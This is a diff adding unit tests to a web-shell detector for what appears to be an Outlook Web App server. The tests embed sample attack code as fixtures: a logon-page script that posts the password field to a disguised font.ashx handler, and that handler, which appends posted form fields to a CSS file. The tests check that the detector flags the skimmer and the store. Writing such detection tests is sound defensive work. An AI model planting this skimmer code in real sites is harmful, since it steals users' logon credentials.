@@ -53,6 +53,29 @@ public class WebFileDetectorTests
     public void A_saved_oab_configuration_without_script_is_only_a_stranger() =>
         Assert.Equal("webfile.unexpected", Single(Client + "d.aspx", "Name : OAB\r\nInternalUrl : https://m/OAB\r\nInternalAuthenticationMethods : x\r\nExternalUrl : https://mail.example.test/OAB\r\n").Detector);
 
+    private const string Store = "<%@ WebHandler Language=\"C#\" Class=\"F\" %>\npublic class F : System.Web.IHttpHandler { public void ProcessRequest(System.Web.HttpContext c) {\n"
+        + "System.IO.File.AppendAllText(c.Server.MapPath(\"head.css\"), c.Request.Form[\"a\"] + c.Request.Form[\"b\"]); } public bool IsReusable { get { return true; } } }";
+
+    [Fact]
+    public void A_page_that_stores_what_the_logon_page_sends_proves_both()
+    {
+        var found = Findings(File(Auth + "logon.aspx", Plain + "<script>function clkLgn(){ var x=new XMLHttpRequest(); x.open('POST','/owa/auth/res/font.ashx',true); x.send(gbid('password').value); }</script>"), File(Auth + @"res\font.ashx", Store)).ToList();
+        var page = Assert.Single(found, finding => finding.Detector == "webshell.logon-skimmer");
+        var store = Assert.Single(found, finding => finding.Detector == "webshell.stores-form");
+        Assert.Equal((Confidence.High, Confidence.High), (page.Confidence, store.Confidence));
+        Assert.Contains(page.Entities, entity => entity.Value == Auth + @"res\font.ashx");
+        Assert.Contains(store.Details, detail => detail.Key == "stored" && detail.Value == Auth + @"res\head.css");
+        Assert.Contains(Question.Taken, store.Answers);
+    }
+
+    [Fact]
+    public void A_store_that_no_logon_page_names_is_less_certain() => Assert.Equal(("webshell.stores-form", Confidence.Medium), (Single(Auth + "font.ashx", Store).Detector, Single(Auth + "font.ashx", Store).Confidence));
+
+    [Theory]
+    [InlineData(@"C:\inetpub\wwwroot\shop\font.ashx", Store)]
+    [InlineData(Auth + "font.ashx", "<%@ WebHandler Language=\"C#\" Class=\"F\" %> class F { void G(System.Web.HttpContext c) { c.Response.Write(c.Request.Form[\"a\"]); } }")]
+    public void A_form_of_another_application_and_one_that_stores_nothing_are_none(string path, string text) => Assert.DoesNotContain(Findings(File(path, text)), finding => finding.Detector == "webshell.stores-form");
+
     [Fact]
     public void A_hidden_page_is_reported() =>
         Assert.Equal("webshell.hidden-attributes", Single(Client + "x.aspx", Plain, FileAttributes.Hidden | FileAttributes.System).Detector);
